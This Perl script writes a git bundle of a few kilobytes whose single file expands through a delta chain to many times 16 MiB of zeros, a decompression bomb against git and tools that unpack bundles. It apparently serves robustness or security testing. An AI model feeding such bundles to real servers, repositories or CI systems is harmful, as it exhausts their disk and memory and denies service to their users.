#!/usr/bin/perl
# SPDX-License-Identifier: Apache-2.0
#
# usage: delta-bomb.pl COPIES >x.bundle
# A git bundle (gitformat-bundle(5), gitformat-pack(5)) of some kilobytes, one file of which is put
# together from COPIES times 16 MiB of zeros. Its commit is printed on standard error.
use strict;
use warnings;
use Compress::Zlib;
use Digest::SHA qw(sha1 sha1_hex);

my $copies = shift;
my $part = 0xffffff;
my $base = "\0" x 0x1000000;

sub varint {
	my ($value, $out) = (shift, '');
	do { $out .= chr(($value & 0x7f) | ($value > 0x7f ? 0x80 : 0)); $value >>= 7 } while ($value);
	return $out;
}

sub entry {
	my ($type, $data, $before) = @_;
	my $size = length $data;
	my $head = ($type << 4) | ($size & 15);
	$size >>= 4;
	my $out = chr($head | ($size ? 0x80 : 0));
	$out .= varint($size) if $size;
	return $out . ($before // '') . compress($data);
}

sub name { my ($type, $data) = @_; return sha1("$type " . length($data) . "\0$data") }

my $delta = varint(length $base) . varint($copies * $part) . ("\xf0\xff\xff\xff" x $copies);
my $whole = Digest::SHA->new(1);
$whole->add("blob " . $copies * $part . "\0");
$whole->add(substr($base, 0, $part)) for 1 .. $copies;
my $tree = "100644 bomb\0" . $whole->digest;
my $commit = "tree " . unpack('H*', name('tree', $tree)) .
	"\nauthor n <n\@example> 0 +0000\ncommitter n <n\@example> 0 +0000\n\none\n";
my $pack = "PACK" . pack('NN', 2, 4) . entry(3, $base) . entry(7, $delta, name('blob', $base)) .
	entry(2, $tree) . entry(1, $commit);
my $id = unpack('H*', name('commit', $commit));
binmode STDOUT;
print "# v2 git bundle\n$id HEAD\n\n$pack", sha1($pack);
print STDERR "$id\n";
